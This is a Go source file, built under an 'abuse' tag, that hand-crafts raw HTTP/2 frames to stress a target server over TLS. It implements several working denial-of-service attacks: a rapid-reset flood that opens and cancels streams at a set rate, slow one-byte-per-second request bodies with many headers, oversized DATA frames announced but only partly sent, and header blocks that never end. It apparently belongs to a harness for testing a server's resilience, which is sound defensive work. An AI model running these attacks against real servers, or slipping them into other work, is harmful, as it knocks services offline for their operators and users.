//go:build abuse

package abuse

import (
	"bufio"
	"context"
	"crypto/tls"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"sync/atomic"
	"time"
)

// Frames of HTTP/2 (RFC 9113), by hand: client libraries refuse to send such streams.
const (
	frameData, frameHeaders, frameReset, frameSettings, framePing, frameContinuation = 0, 1, 3, 4, 6, 9
	flagEnd, flagAck, flagEndHeaders                                                 = 1, 1, 4
)

func frame(kind, flags byte, stream uint32, payload []byte) []byte {
	f := make([]byte, 9, 9+len(payload))
	f[0], f[1], f[2] = byte(len(payload)>>16), byte(len(payload)>>8), byte(len(payload))
	f[3], f[4] = kind, flags
	binary.BigEndian.PutUint32(f[5:], stream)
	return append(f, payload...)
}

// post2 has the headers of POST /in in HPACK: entries of the static table, and literals without indexing.
func post2(more int) []byte {
	block := []byte{0x83, 0x87, 0x04, 3}
	block = append(block, "/in\x01\x01x"...)
	for i := range more {
		block = append(block, 0x00, 3, 'a'+byte(i%26), 'a'+byte(i/26%26), 'a'+byte(i/676%26), 0)
	}
	return block
}

// connect2 is a connection with HTTP/2, after the preface and the settings.
func connect2(ctx context.Context, c net.Conn) (*tls.Conn, error) {
	t := tls.Client(c, tlsConfig("h2"))
	if err := t.HandshakeContext(ctx); err != nil {
		return nil, err
	}
	hello := append([]byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), frame(frameSettings, 0, 0, nil)...)
	if _, err := t.Write(hello); err != nil {
		return nil, err
	}
	var head [9]byte
	if _, err := io.ReadFull(t, head[:]); err != nil {
		return nil, err
	}
	if _, err := io.CopyN(io.Discard, t, int64(head[0])<<16|int64(head[1])<<8|int64(head[2])); err != nil {
		return nil, err
	}
	_, err := t.Write(frame(frameSettings, flagAck, 0, nil))
	return t, err
}

// over2 holds n connections of HTTP/2, calls a function on each, then waits until it is closed.
func over2(n int, perSecond float64, do func(ctx context.Context, c *tls.Conn)) func(context.Context, string) string {
	return func(ctx context.Context, target string) string {
		var h held
		var ready atomic.Int64
		h.hold(ctx, n, perSecond, target, func(raw net.Conn) {
			c, err := connect2(ctx, raw)
			if err != nil {
				return
			}
			ready.Add(1)
			go waitClosed(c)
			do(ctx, c)
			<-ctx.Done()
		})
		return fmt.Sprintf("%s; %d spoke HTTP/2", h.String(), ready.Load())
	}
}

// streams2 opens many requests, each with many headers, the first byte of its body, and then one byte a second.
func streams2(streams, headers int) func(ctx context.Context, c *tls.Conn) {
	return func(ctx context.Context, c *tls.Conn) {
		w := bufio.NewWriterSize(c, 64<<10)
		for i := range streams {
			id := uint32(2*i + 1)
			_, _ = w.Write(frame(frameHeaders, flagEndHeaders, id, post2(headers)))
			_, _ = w.Write(frame(frameData, 0, id, []byte("[")))
		}
		for w.Flush() == nil && ctx.Err() == nil {
			time.Sleep(time.Second)
			for i := range streams {
				_, _ = w.Write(frame(frameData, 0, uint32(2*i+1), []byte(" ")))
			}
		}
	}
}

// announce2 announces a frame of the largest size that a Go server accepts by default, and sends a part of it.
func announce2(size, send int) func(ctx context.Context, c *tls.Conn) {
	return func(_ context.Context, c *tls.Conn) {
		f := frame(frameData, 0, 1, make([]byte, size))
		_, _ = c.Write(frame(frameHeaders, flagEndHeaders, 1, post2(0)))
		_, _ = c.Write(f[:9+send])
	}
}

// openHeaders2 begins a block of headers that never ends.
func openHeaders2(headers int) func(ctx context.Context, c *tls.Conn) {
	return func(_ context.Context, c *tls.Conn) {
		_, _ = c.Write(frame(frameHeaders, 0, 1, post2(headers)))
	}
}

// rapidReset opens requests and resets them at once, at a rate on each connection.
func rapidReset(perSecond int, resets *atomic.Int64) func(ctx context.Context, c *tls.Conn) {
	return func(ctx context.Context, c *tls.Conn) {
		tick := time.NewTicker(10 * time.Millisecond)
		defer tick.Stop()
		for id := uint32(1); ctx.Err() == nil; {
			<-tick.C
			var burst []byte
			for range perSecond / 100 {
				burst = append(burst, frame(frameHeaders, flagEndHeaders, id, post2(0))...)
				burst = append(burst, frame(frameReset, 0, id, []byte{0, 0, 0, 8})...)
				id += 2
			}
			if _, err := c.Write(burst); err != nil {
				return
			}
			resets.Add(int64(perSecond / 100))
		}
	}
}
